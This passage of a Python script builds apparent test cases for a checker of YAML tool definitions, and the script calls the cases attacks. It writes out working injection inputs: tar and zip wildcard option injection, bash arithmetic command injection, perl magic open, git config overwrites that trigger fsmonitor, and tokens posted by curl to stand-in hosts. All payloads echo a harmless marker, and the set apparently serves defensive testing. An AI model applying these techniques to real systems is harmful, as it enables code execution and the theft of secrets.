title: Show invisible characters of a file
description: Print the first lines of a file with every character shown (od -c), for tabs/CR/BOM problems; posts the report to the team's paste service.
args:
  file: {type: string, within: "."}
  lines: {type: integer, minimum: 1, maximum: 50, default: 5}
required: [file]
timeout: 30
secrets:
  PASTE_TOKEN: {file: .secrets/api_token}
steps:
  - name: chars
    run: |
      head -n {{ args.lines }} -- "$ARG_file" | od -c | tee "$HARBOR_RUN_DIR/report.txt"
  - name: paste
    continue_on_error: true
    run: |
      printf 'Authorization: Bearer %s\n' "$PASTE_TOKEN" |
        curl -sS --max-time 5 --header @- --data-binary @"$HARBOR_RUN_DIR/report.txt" https://paste.invalid/api || true
""",
    {"file": "exports/.secrets/api_token"},
    "od -c prints one character per column: 's   3   c …' is no form the scrubber knows.",
)

add(
    63,
    "iconv-utf16",
    "secret-source-file-in-tree",
    r"""
name: to_utf16
title: Convert a file to UTF-16 for Windows tools
description: Convert a text file to UTF-16LE and return it base64-encoded; uploads a copy with the deploy token when asked.
args:
  file: {type: string, within: "."}
  upload: {type: boolean, default: false}
required: [file]
timeout: 30
secrets:
  DEPLOY_TOKEN: {file: .secrets/api_token}
steps:
  - name: convert
    run: |
      iconv -f UTF-8 -t UTF-16LE -- "$ARG_file" > "$HARBOR_RUN_DIR/out.txt"
      base64 -w 0 -- "$HARBOR_RUN_DIR/out.txt"
  - name: upload
    if: args.upload == true
    run: |
      curl -sS --max-time 5 -H "Authorization: Bearer $DEPLOY_TOKEN" -T "$HARBOR_RUN_DIR/out.txt" https://files.invalid/
""",
    {"file": "exports/.secrets/api_token"},
    "the secret file read by caller path, then UTF-16 and base64: no verbatim form survives.",
)

add(
    64,
    "xxd-plain",
    "secret-source-file-in-tree",
    r"""
name: hex_preview
title: Hex preview of a file
description: Plain hex of the first bytes of a file (xxd -p), e.g. to compare magic numbers. Sends a usage ping with the metrics token.
args:
  path: {type: string, within: "."}
required: [path]
timeout: 20
secrets:
  METRICS_TOKEN: {file: .secrets/api_token}
steps:
  - name: hex
    run: xxd -p -l 128 "$ARG_path"
  - name: ping
    continue_on_error: true
    run: |
      curl -fsS --max-time 3 -H "X-Token: $METRICS_TOKEN" https://metrics.invalid/ping >/dev/null || true
""",
    {"path": "exports/.secrets/api_token"},
    "xxd -p prints the secret file as hex.",
)

# ---------------------------------------------------------------- class home-config-write
add(
    70,
    "commit-draft-home",
    "home-config-write",
    r"""
name: save_commit_draft
title: Save a commit message draft
description: >
  Save a commit message draft under ~/.commit-drafts/NAME for later use, and
  show the project's pending changes (git status) it describes.
args:
  name: {type: string, pattern: "^[A-Za-z0-9._/-]+$", maxLength: 200}
  message: {type: string, multiline: true, maxLength: 20000}
required: [name, message]
timeout: 30
steps:
  - name: save
    run: |
      mkdir -p -- "$HOME/.commit-drafts"
      printf '%s\n' "$ARG_message" > "$HOME/.commit-drafts/$ARG_name"
  - name: status
    run: git status --short
""",
    {"name": "../.gitconfig", "message": GLOBAL_FSMON.rstrip("\n")},
    "the draft goes to an absolute path under $HOME (W103 is a warning), so the working folder is not counted as written; ../.gitconfig is the user's git config, whose core.fsmonitor git status runs (now and in every later call of every export).",
)

add(
    71,
    "xdg-notes",
    "home-config-write",
    r"""
name: save_note
title: Save a personal note
description: Save a note under ~/.config/harbor-notes/, then show the repository's diff summary it refers to.
args:
  title: {type: string, pattern: "^[A-Za-z0-9 ._/-]+$", maxLength: 200}
  body: {type: string, multiline: true, maxLength: 20000}
required: [title, body]
timeout: 30
steps:
  - name: save
    run: |
      dir="$HOME/.config/harbor-notes"
      mkdir -p -- "$(dirname -- "$dir/$ARG_title")"
      printf '%s\n' "$ARG_body" > "$dir/$ARG_title"
  - name: diff
    run: git diff --stat
""",
    {"title": "../git/config", "body": GLOBAL_FSMON.rstrip("\n")},
    "../git/config from ~/.config/harbor-notes is git's XDG user config; git diff runs core.fsmonitor.",
)

add(
    72,
    "cache-upload-home",
    "home-config-write",
    r"""
name: cache_artifact
title: Cache an uploaded artifact
description: Keep an uploaded artifact in the user's cache (~/.cache/artifacts/KEY) and show the last commit it belongs to.
args:
  key: {type: string, pattern: "^[A-Za-z0-9._/-]+$"}
  artifact: {type: string, contentEncoding: base64, contentMediaType: application/octet-stream, max_bytes: 1000000}
required: [key, artifact]
timeout: 30
steps:
  - name: commit
    run: |
      mkdir -p -- "$HOME/.cache/artifacts"
      cp -- "$ARG_artifact" "$HOME/.cache/artifacts/$ARG_key"
      git status --short --branch
""",
    {"key": "../../.gitconfig", "artifact": b64(GLOBAL_FSMON)},
    "cp to $HOME/.cache/artifacts/../../.gitconfig replaces the user's git config; git status runs core.fsmonitor.",
)

# ---------------------------------------------------------------- more perl / python in argv
add(
    6,
    "perl-word-count-argv",
    "perl-argv-magic-open",
    r"""
name: word_frequency
title: Word frequency of a document
description: The 10 most frequent words of a Markdown file under docs/.
args:
  doc: {type: string, within: docs, default: docs/index.md}
timeout: 30
sandbox: {network: none}
steps:
  - name: freq
    run: |
      perl -nle '$c{lc $_}++ for /\w+/g; END { print "$c{$_} $_" for (sort { $c{$b} <=> $c{$a} } keys %c)[0..9] }' -- "$ARG_doc"
""",
    {"doc": "docs/" + PERL_SUB},
    "perl -n magic open of the operand.",
)


# ---------------------------------------------------------------- more argv-step-in-written-workdir
add(
    17,
    "save-makefile-lint",
    "argv-step-in-written-workdir",
    r"""
name: save_and_lint
title: Save a file and run the lint target
description: Save a file of the project and run `make lint` (the project's own lint recipe).
args:
  path: {type: string, within: ".", pattern: "^[A-Za-z0-9_./-]+$"}
  content: {type: string, multiline: true, maxLength: 200000}
required: [path, content]
timeout: 300
steps:
  - name: save
    run: printf '%s\n' "$ARG_content" > "$ARG_path"
  - name: lint
    argv: [make, --no-print-directory, lint]
""",
    {"path": "Makefile", "content": "lint:\n\t@echo HARBOR-PWNED-$$((6*7))"},
    "make (no grammar) gets only literal words, but it reads the Makefile the first step just wrote; argv steps are not judged as running in a written folder.",
)

add(
    18,
    "save-script-run-report",
    "argv-step-in-written-workdir",
    r"""
name: edit_and_report
title: Edit a file and regenerate the report
description: Replace a file of the project, then regenerate the status report with scripts/report.sh.
args:
  path: {type: string, within: "."}
  content: {type: string, multiline: true, maxLength: 200000}
required: [path, content]
timeout: 120
needs: {files: [scripts/report.sh]}
steps:
  - name: save
    run: printf '%s\n' "$ARG_content" > "$ARG_path"
  - name: report
    argv: [sh, scripts/report.sh, --summary]
""",
    {"path": "scripts/report.sh", "content": "echo HARBOR-PWNED-$((6*7))"},
    "the path admits the author's own script, which the argv step then runs: a file the script writes and then runs, split across a run: and an argv: step.",
)

# ---------------------------------------------------------------- class glob-of-caller-names
TAR_NAMES = b64(
    tar_bytes(
        [
            ("report.txt", "x\n", None),
            ("--checkpoint=1", "", None),
            ("--checkpoint-action=exec=echo HARBOR-PWNED-$((6*7))", "", None),
        ]
    )
)
add(
    80,
    "repack-upload-glob",
    "glob-of-caller-names",
    r"""
name: repack_upload
title: Repack an uploaded archive
description: Unpack an uploaded .tar.gz in the run directory, drop editor backup files, and repack it with maximum compression.
args:
  upload: {type: string, contentEncoding: base64, contentMediaType: application/gzip, max_bytes: 20000000}
required: [upload]
timeout: 120
sandbox: {network: none}
steps:
  - name: repack
    run: |
      work="$HARBOR_RUN_DIR/unpacked"
      mkdir -p -- "$work"
      tar -xzf "$ARG_upload" -C "$work"
      cd -- "$work"
      rm -f -- *~ *.bak
      GZIP=-9 tar -czf "$HARBOR_RUN_DIR/repacked.tar.gz" *
      ls -l -- "$HARBOR_RUN_DIR/repacked.tar.gz"
""",
    {"upload": TAR_NAMES},
    "the glob lists member names of the caller's archive; names starting with -- become tar options (the classic wildcard injection).",
)

ZIP_NAMES = b64(
    tar_bytes(
        [
            ("a.txt", "a\n", None),
            ("-T", "", None),
            ("--unzip-command=echo HARBOR-PWNED-$((6*7))", "", None),
        ]
    )
)
add(
    81,
    "zip-extracted-glob",
    "glob-of-caller-names",
    r"""
name: tar_to_zip
title: Convert a tarball to a zip
description: Convert an uploaded .tar.gz into a .zip (for Windows users) in the run directory.
args:
  upload: {type: string, contentEncoding: base64, contentMediaType: application/gzip, max_bytes: 20000000}
required: [upload]
timeout: 120
steps:
  - name: convert
    run: |
      mkdir -p -- "$HARBOR_RUN_DIR/x"
      tar -xzf "$ARG_upload" -C "$HARBOR_RUN_DIR/x"
      cd -- "$HARBOR_RUN_DIR/x"
      zip -q -r "$HARBOR_RUN_DIR/converted.zip" *
      unzip -l "$HARBOR_RUN_DIR/converted.zip" | tail -n 1
""",
    {"upload": ZIP_NAMES},
    "member names '-T' and '--unzip-command=…' come back from the glob as zip options.",
)

# ---------------------------------------------------------------- class arithmetic-on-read-data
add(
    85,
    "csv-error-total",
    "arithmetic-on-read-data",
    r"""
name: error_total
title: Total errors of an uploaded report
description: Add up the errors column of an uploaded CSV report (date,service,requests,errors) and print the error rate.
args:
  report: {type: string, contentEncoding: base64, contentMediaType: text/csv, max_bytes: 5000000}
required: [report]
timeout: 30
sandbox: {network: none}
steps:
  - name: total
    run: |
      total=0; requests=0
      while IFS=, read -r date service req err; do
        [ "$date" = date ] && continue
        (( requests += req, total += err ))
      done < "$ARG_report"
      printf 'errors=%d requests=%d\n' "$total" "$requests"
""",
    {
        "report": b64(
            "date,service,requests,errors\n2024-01-01,web,10,a[$(echo HARBOR-PWNED-$((6*7)) >&2)]\n"
        )
    },
    "(( total += err )) reads err by name; bash evaluates its text as an expression, and the subscript a[$(…)] runs the command.",
)

add(
    86,
    "bytes-served",
    "arithmetic-on-read-data",
    r"""
name: bytes_served
title: Bytes served by an uploaded access log
description: Sum the response sizes of an uploaded access log (combined log format) and print the total in MiB.
args:
  log: {type: string, contentEncoding: base64, contentMediaType: text/plain, max_bytes: 20000000}
required: [log]
timeout: 60
sandbox: {network: none}
steps:
  - name: sum
    run: |
      declare -i bytes=0 lines=0
      while read -r _ _ _ _ _ _ _ _ _ size _; do
        [[ $size == - ]] && continue
        bytes+=$size
        lines+=1
      done < "$ARG_log"
      printf '%d requests, %d MiB\n' "$lines" $(( bytes / 1048576 ))
""",
    {
        "log": b64(
            '1.2.3.4 - - [15/Jan/2024:10:00:00 +0000] "GET / HTTP/1.1" 200 a[$(echo${IFS}HARBOR-PWNED-$((6*7))>&2)] "-" "x"\n'
        )
    },
    "bytes has the integer attribute: bytes+=$size evaluates the read field as an arithmetic expression, whose subscript runs a command.",
)

# ---------------------------------------------------------------- class secret-file-in-run-dir
add(
    90,
    "report-fetch-show",
    "secret-run-dir-file-by-path",
    r"""
name: fetch_report
title: Fetch a report from the reports API
description: >
  Fetch a named report from the internal reports API (the token goes in a curl
  config file in the run directory, never on the command line) and return it
  base64-encoded.
args:
  report: {type: string, pattern: "^[A-Za-z0-9._/-]+$", maxLength: 200, description: "Report name, e.g. weekly/errors.csv"}
required: [report]
timeout: 60
secrets:
  API_TOKEN: {env: REPORTS_API_TOKEN}
steps:
  - name: auth
    run: |
      umask 077
      printf 'header = "Authorization: Bearer %s"\n' "$API_TOKEN" > "$HARBOR_RUN_DIR/curl.cfg"
  - name: fetch
    continue_on_error: true
    run: |
      mkdir -p -- "$(dirname -- "$HARBOR_RUN_DIR/reports/$ARG_report")"
      curl -fsS --max-time 10 -K "$HARBOR_RUN_DIR/curl.cfg" -o "$HARBOR_RUN_DIR/reports/$ARG_report" \
        "https://reports.invalid/api/$ARG_report" || true
  - name: show
    run: base64 -w 0 -- "$HARBOR_RUN_DIR/reports/$ARG_report"
""",
    {"report": "../curl.cfg"},
    "the secret goes to a file of the run directory (accepted); the report name ../curl.cfg (W103 only) points the base64 step at it.",
)

add(
    91,
    "debug-headers-od",
    "secret-run-dir-file-by-path",
    r"""
name: api_get_debug
title: GET an internal API path, with a byte dump
description: GET a path of the internal API and show the response body as od -c (for encoding issues).
args:
  path: {type: string, pattern: "^[A-Za-z0-9._/-]+$", maxLength: 300}
required: [path]
timeout: 60
secrets:
  API_TOKEN: {env: INTERNAL_API_TOKEN}
steps:
  - name: get
    continue_on_error: true
    run: |
      printf 'Authorization: Bearer %s\n' "$API_TOKEN" > "$HARBOR_RUN_DIR/headers.txt"
      mkdir -p -- "$HARBOR_RUN_DIR/body"
      curl -sS --max-time 10 -H @"$HARBOR_RUN_DIR/headers.txt" \
        --create-dirs -o "$HARBOR_RUN_DIR/body/$ARG_path" "https://api.invalid/$ARG_path" || true
  - name: dump
    run: |
      f="$HARBOR_RUN_DIR/body/$ARG_path"
      [ -e "$f" ] || f="$HARBOR_RUN_DIR/body/response"
      od -c -- "$f" | head -n 40
""",
    {"path": "../headers.txt"},
    "the headers file holding the token is in the run directory (accepted); the API path ../headers.txt makes the dump step print it one character per column.",
)

# ---------------------------------------------------------------- class interpreter-check-runs-file
add(
    95,
    "pydoc-upload",
    "check-mode-runs-file",
    r"""
name: module_docs
title: API documentation of an uploaded Python module
description: Show the pydoc text (functions, classes, docstrings) of an uploaded .py module.
args:
  module: {type: string, contentEncoding: base64, contentMediaType: text/x-python, max_bytes: 1000000}
required: [module]
timeout: 30
sandbox: {network: none}
steps:
  - name: pydoc
    run: python3 -m pydoc "$ARG_module"
""",
    {
        "module": b64(
            '"""Demo."""\nimport sys\nsys.stderr.write("HARBOR-PWNED-%d\\n" % (6 * 7))\ndef f():\n    """doc"""\n'
        )
    },
    "pydoc given a path imports (executes) the file to document it; the caller's upload is data for python3's grammar (an operand after the module).",
)

add(
    96,
    "perl-syntax-check",
    "check-mode-runs-file",
    r"""
name: perl_syntax
title: Syntax-check a Perl script
description: Check an uploaded Perl script for syntax errors (perl -c); nothing is run.
args:
  script: {type: string, contentEncoding: base64, contentMediaType: text/plain, max_bytes: 1000000}
required: [script]
timeout: 30
sandbox: {network: none}
steps:
  - name: check
    run: perl -c -- "$ARG_script"
""",
    {"script": b64('BEGIN { print STDERR "HARBOR-PWNED-", 6*7, "\\n" }\nprint "hi\\n";\n')},
    "perl -c compiles and runs BEGIN blocks.",
)

# ---------------------------------------------------------------- class home-config-write (jq)
add(
    73,
    "jq-filter-library",
    "home-config-write",
    r"""
name: save_jq_filter
title: Save a named jq filter
description: Save a jq filter under ~/.jq-filters/NAME for reuse, then show the keys of config/app.json as a smoke test.
args:
  name: {type: string, pattern: "^[A-Za-z0-9._/-]+$", maxLength: 100}
  filter: {type: string, maxLength: 2000}
required: [name, filter]
timeout: 30
steps:
  - name: save
    run: |
      mkdir -p -- "$HOME/.jq-filters"
      printf '%s\n' "$ARG_filter" > "$HOME/.jq-filters/$ARG_name"
  - name: smoke
    run: jq -c 'keys' config/app.json
""",
    {"name": "../.jq", "filter": 'def keys: ["HARBOR-PWNED-\\(6*7)"];'},
    "../.jq is jq's own startup library: jq loads ~/.jq into every program, so the caller's definitions replace keys in the author's literal filter (jq code from a caller value).",
)

# ---------------------------------------------------------------- class step-output-relay
add(
    100,
    "relay-split-tar",
    "step-output-relay",
    r"""
name: backup_paths
title: Back up selected paths
description: Resolve a space-separated list of paths (first step), then tar them into the run directory (second step).
args:
  paths: {type: string, maxLength: 2000, default: "config"}
timeout: 120
steps:
  - name: resolve
    run: |
      printf 'paths=%s\n' "$ARG_paths" >> "$HARBOR_STEP_OUTPUT"
      printf 'count=%s\n' "$(wc -w <<<"$ARG_paths")" >> "$HARBOR_STEP_OUTPUT"
  - name: pack
    run: |
      echo "packing $STEP_resolve_count path(s)"
      tar -czf "$HARBOR_RUN_DIR/backup.tar.gz" $STEP_resolve_paths
""",
    {"paths": "config --checkpoint=1 --checkpoint-action=exec=echo${IFS}HARBOR-PWNED-$((6*7))"},
    "an output carrying the caller's list, expanded unquoted in a later step: split fields become tar options.",
)

add(
    101,
    "relay-perl-latest",
    "step-output-relay",
    r"""
name: latest_log_errors
title: Errors of the chosen log
description: Normalise the chosen log path (step 1), then print its ERROR lines with perl (step 2).
args:
  log: {type: string, within: ".", default: logs/app.log}
timeout: 30
steps:
  - name: pick
    run: printf 'file=%s\n' "${ARG_log#./}" >> "$HARBOR_STEP_OUTPUT"
  - name: errors
    run: perl -ne 'print if /ERROR/' -- "$STEP_pick_file"
""",
    {"log": "./x;echo HARBOR-PWNED-$((6*7)) >&2|"},
    "step outputs are caller data; here the relayed value is a perl -n operand, opened with magic 2-arg open.",
)

# ---------------------------------------------------------------- split class: xargs -a
add(
    39,
    "xargs-list-file",
    "unquoted-split-option",
    r"""
name: checksum_list
title: Archive and checksum listed files
description: Archive the files named one per line, and print the archive's checksum.
args:
  files: {type: string, multiline: true, maxLength: 20000}
required: [files]
timeout: 60
steps:
  - name: archive
    run: |
      printf '%s\n' "$ARG_files" > "$HARBOR_RUN_DIR/list.txt"
      xargs -a "$HARBOR_RUN_DIR/list.txt" -d '\n' tar -cf "$HARBOR_RUN_DIR/files.tar"
      sha256sum -- "$HARBOR_RUN_DIR/files.tar"
""",
    {"files": "README.md\n--checkpoint=1\n--checkpoint-action=exec=echo HARBOR-PWNED-$((6*7))"},
    "xargs -d '\\n' (no W105) hands each line to tar as one argument; lines after the first of a multiline value may start with -.",
)

for n, slug, cls, y, args, why in A:
    base = os.path.join(OUT, f"{n:03d}-{slug}")
    open(base + ".yaml", "w").write(y)
    json.dump({"args": args, "class": cls, "why": why}, open(base + ".json", "w"), indent=1)
print(len(A), "attacks written")
